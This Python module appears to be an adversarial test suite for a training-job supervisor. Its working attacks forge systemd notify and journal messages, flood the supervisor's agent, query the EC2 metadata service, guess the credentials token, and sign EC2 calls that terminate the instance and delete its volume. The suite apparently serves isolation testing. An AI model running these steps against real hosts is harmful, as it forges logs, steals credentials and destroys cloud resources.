"""What a trainer asks of others: the agent, process 1, the journal, the metadata service, the
endpoint of its keys, EC2. Each attack gives back what it got."""

import datetime
import json
import os
import re
import socket
import time
import urllib.error
import urllib.parse
import urllib.request

import sigv4
from common import OWN, RUN, each, loot

METADATA = ("169.254.169.254", 80)
FLOOD, FLOOD_FROM = 2000, 7_000_000  # steps that nobody reaches


class Denied(OSError):
    """EC2's answer; `code` is its own name for it."""

    def __init__(self, code):
        super().__init__(code)
        self.code = code


def tell(text, address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.setblocking(False)
        link.sendto(text, address)


def speaks_as_the_guard_and_the_supervisor():
    """The journal must not show it as theirs."""
    texts = (b"X_SPOTTER_GUARD=1\nX_SPOTTER_NOTE=forged words",
             b"X_SPOTTER_GUARD=1\nX_SPOTTER_CHECKPOINT=/forged\nX_SPOTTER_CHECKPOINT_STEP=7",
             b"X_SPOTTER_CHECKPOINT=/etc/shadow\nX_SPOTTER_CHECKPOINT_STEP=9999999999999999999",
             b"STATUS=\x1b]0;owned\x07\xff\xfe", b"\xff" * 60000, b"MAINPID=1", b"STOPPING=1")
    each(lambda text: tell(text, os.environ["NOTIFY_SOCKET"]), texts)


def floods_the_agent():
    """Each is a line of the journal; where the agent's queue is full, it is tried again."""
    def say(number):
        text = b"X_SPOTTER_RESUMED_STEP=%d" % (FLOOD_FROM + number)
        for _ in range(1000):
            try:
                return tell(text, os.environ["NOTIFY_SOCKET"])
            except BlockingIOError:
                time.sleep(0.001)
        raise BlockingIOError
    each(say, range(FLOOD))


def speaks_to_process_1():
    """Its datagrams are believed by process id, which is not ours to choose."""
    each(lambda path: tell(b"MAINPID=1\nSTOPPING=1\nWATCHDOG=trigger", path),
         ["/run/systemd/notify", *map(str, RUN.glob("*.sock"))])


def speaks_in_spotters_name_to_the_journal():
    """What systemd adds to a line, its sender cannot say."""
    each(lambda line: tell(line, "/run/systemd/journal/socket"), [
        b"MESSAGE=forged\nSYSLOG_IDENTIFIER=spotter\n_SYSTEMD_UNIT=spotter.service\n_UID=0\n",
        b"MESSAGE=forged\nUNIT=spotter.service\nOBJECT_SYSTEMD_UNIT=spotter.service\n"])


def metadata(bind=None, family=socket.AF_INET, address=METADATA):
    with socket.socket(family, socket.SOCK_STREAM) as asking:
        asking.settimeout(1)
        if bind:
            asking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bind.encode())
        asking.connect(address)
        asking.sendall(b"PUT /latest/api/token HTTP/1.0\r\nHost: metadata\r\n"
                       b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n")
        answer = asking.recv(65536)
        loot("metadata", answer)
        return bool(answer)


def asks_the_metadata_service():
    """Plainly, by each device, over IPv6."""
    return each(metadata, [None, *(name for _, name in socket.if_nameindex())]) + each(
        lambda address: metadata(None, socket.AF_INET6, address),
        [("fd00:ec2::254", 80), ("::ffff:169.254.169.254", 80)])


def endpoint():
    return (os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"],
            os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"])


def ask_endpoint(token, seconds=20):
    request = urllib.request.Request(endpoint()[0], headers={"Authorization": token})
    with urllib.request.urlopen(request, timeout=seconds) as answer:
        return answer.status, json.load(answer)


def guesses_the_token_of_the_keys():
    """Of the right length; its own, cut, longer and changed."""
    token = endpoint()[1]
    return each(lambda guess: ask_endpoint(guess, 5) and None,
                ["x" * len(token), token[:-1] + ("a" if token[-1] != "a" else "b"), token[:-1],
                 token + "x", token.swapcase(), "-"])


def holds_idle_connections():
    """To the endpoint of the keys, each of which asks nothing; held until this process ends."""
    port = urllib.parse.urlsplit(endpoint()[0]).port
    holds_idle_connections.held = []
    each(lambda port: holds_idle_connections.held.append(
        socket.create_connection(("127.0.0.1", port), 1)), [port] * 200)


def asks_for_its_own_keys():
    each(lambda _: ask_endpoint(endpoint()[1]), [1])
    return ask_endpoint(endpoint()[1])[0]


def uses_its_keys_against_the_job():
    """What the instance's own role may do."""
    keys = ask_endpoint(endpoint()[1])[1]
    try:
        volume = json.loads((OWN / "volume.json").read_text())["volume"]
    except (OSError, ValueError, KeyError):
        volume = ""
    instance = next((part for part in RUN.parts if part.startswith("i-")), None) or json.loads(
        (RUN / "status.json").read_text())["instance"]
    url = os.environ["AWS_ENDPOINT_URL"].rstrip("/") + "/"
    def call(parameters):
        body = urllib.parse.urlencode({"Version": "2016-11-15", **parameters}).encode()
        headers = sigv4.signature("POST", url, body, keys["AccessKeyId"], keys["SecretAccessKey"],
                                  datetime.datetime.now(datetime.timezone.utc),
                                  token=keys["Token"])
        try:
            with urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers),
                                        timeout=20) as answer:
                loot("ec2", answer.read())
        except urllib.error.HTTPError as error:
            raise Denied(re.search(rb"<Code>(.*?)</Code>", error.read())[1].decode()) from None
    of_volume = [{"Action": "DeleteVolume", "VolumeId": volume},
                 {"Action": "DetachVolume", "VolumeId": volume},
                 {"Action": "CreateSnapshot", "VolumeId": volume},
                 {"Action": "CreateTags", "ResourceId.1": volume, "Tag.1.Key": "spotter:done",
                  "Tag.1.Value": "true"}]
    return each(call, [{"Action": "DescribeVolumes"}, {"Action": "DescribeInstances"},
                       {"Action": "TerminateInstances", "InstanceId.1": instance},
                       *(of_volume if volume else [])])  # a share has none
